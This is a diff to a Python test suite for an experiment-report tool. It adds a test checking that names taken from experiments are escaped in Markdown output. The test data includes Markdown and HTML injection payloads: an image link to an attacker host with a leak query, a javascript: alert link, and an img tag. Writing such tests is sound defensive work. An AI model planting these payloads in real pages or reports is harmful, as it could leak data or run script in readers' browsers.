@@ -330,10 +330,9 @@ def test_md_and_csv_match_sweep_json(recs):
         assert len(body) == len(sw["conditions"])
         for line, c in zip(body, sw["conditions"]):
             cells = [x.strip() for x in line.strip("|").split(" | ")]
-            assert cells[0] == c["name"] and int(cells[1]) == c["completed"]
+            assert md_unescape(cells[0]) == c["name"] and int(cells[1]) == c["completed"]
             for h, cell in zip(header[2:], cells[2:]):
-                st = next((v for k, v in c["metrics"].items()
-                           if k.replace("<", "&lt;").replace(">", "&gt;") == h), None)
+                st = next((v for k, v in c["metrics"].items() if k == md_unescape(h)), None)
                 if st is None:
                     assert cell == "-"
                     continue
@@ -423,3 +422,75 @@ def test_errors_name_the_problem(recs):
     assert p.returncode == 2
     # Reading never runs anything.
     assert sorted(os.listdir(recs["runs"])) == before
+
+
+# Names an experiment chooses that Markdown would make into links, images, autolinks, emphasis
+# or code: as condition names (the runs' arguments) and as metric names (results.json keys).
+MD_HOSTILE = [
+    "![x](http://attacker.example/p.png?leak=1)",
+    "[click me](javascript:alert(document.domain))",
+    "<http://auto.example/a>",
+    "www.attacker.example/w",
+    "https://bare.example/b",
+    "mail@attacker.example",
+    "*em* _u_ ~~gone~~ **b** `code`",
+    "<img src=http://attacker.example/i.png>",
+]
+# ASCII punctuation (what CommonMark lets a backslash escape).
+MD_PUNCT = r"""!"#$%&'()*+,\-./:;<=>?@\[\\\]^_`{|}~"""
+
+
+def md_unescape(cell):
+    import html
+    import re
+    return html.unescape(re.sub(r"\\([" + MD_PUNCT + "])", r"\1", cell.replace("`@`", "@")))
+
+
+def test_md_names_from_the_experiment_form_no_link_or_image(tmp_path):
+    """Condition names and metric names are the experiment's text: in the Markdown report
+    each of their ASCII punctuation characters is escaped (an entity, or `@`), so a Markdown
+    renderer (cmark-gfm, GitHub's, when installed: with its table, autolink and
+    strikethrough extensions) makes no link, image, autolink, emphasis or code of them, and
+    the text read back is the name itself."""
+    import re
+    exp = write_exp(tmp_path, r'''
+        import json, sys
+        names = json.loads(sys.argv[2])
+        print("accuracy: 0.5")
+        json.dump({n: 1.0 for n in names}, open("results.json", "w"))
+        ''', "metrics: none\n")
+    (exp / "labbox.yaml").unlink()
+    runs = tmp_path / "runs"
+    ids = []
+    for name in MD_HOSTILE:
+        p, res = run_json("run", "--json", "--python", PYTHON, "--runs-dir", runs, exp, "--",
+                          name, json.dumps(MD_HOSTILE))
+        assert p.returncode == 0, p.stderr[-3000:]
+        ids.append(res["id"])
+    out = tmp_path / "report.md"
+    p = labbox("report", "--runs-dir", runs, "--format", "md", "-o", out, *ids)
+    assert p.returncode == 0, p.stderr
+    text = out.read_text()
+    table = [l for l in text.splitlines() if l.startswith("|")]
+    header = [c.strip() for c in table[0].strip("|").split(" | ")]
+    conds = [l.strip("|").split(" | ")[0].strip() for l in table[2:]]
+    # Every punctuation character of a name is escaped or part of an entity.
+    safe = re.compile(r"(?:\\[" + MD_PUNCT + r"]|&(?:lt|gt|amp);|`@`|[^" + MD_PUNCT + r"])*")
+    for cell in header[2:] + conds:
+        assert safe.fullmatch(cell), cell
+    assert sorted(md_unescape(h) for h in header[2:]) == sorted(MD_HOSTILE + ["accuracy"])
+    for name in MD_HOSTILE:
+        assert any(name in md_unescape(c) for c in conds), (name, conds)
+    cmark = shutil.which("cmark-gfm")
+    if cmark:
+        r = subprocess.run([cmark, "-e", "table", "-e", "autolink", "-e", "strikethrough",
+                            str(out)], capture_output=True, text=True, timeout=60)
+        assert r.returncode == 0, r.stderr
+        dom = Dom(r.stdout)
+        tags = {e["tag"] for e in dom.elements}
+        assert tags.isdisjoint({"a", "img", "em", "strong", "del"}), r.stdout
+        # The one code span: '@' as `@`, which keeps an address from being linked.
+        assert all(e["text"] == "@" for e in dom.elements if e["tag"] == "code"), r.stdout
+        cells = [e["text"].strip() for e in dom.elements if e["tag"] in ("th", "td")]
+        for name in MD_HOSTILE:
+            assert name in cells or any(name in c for c in cells), (name, cells)
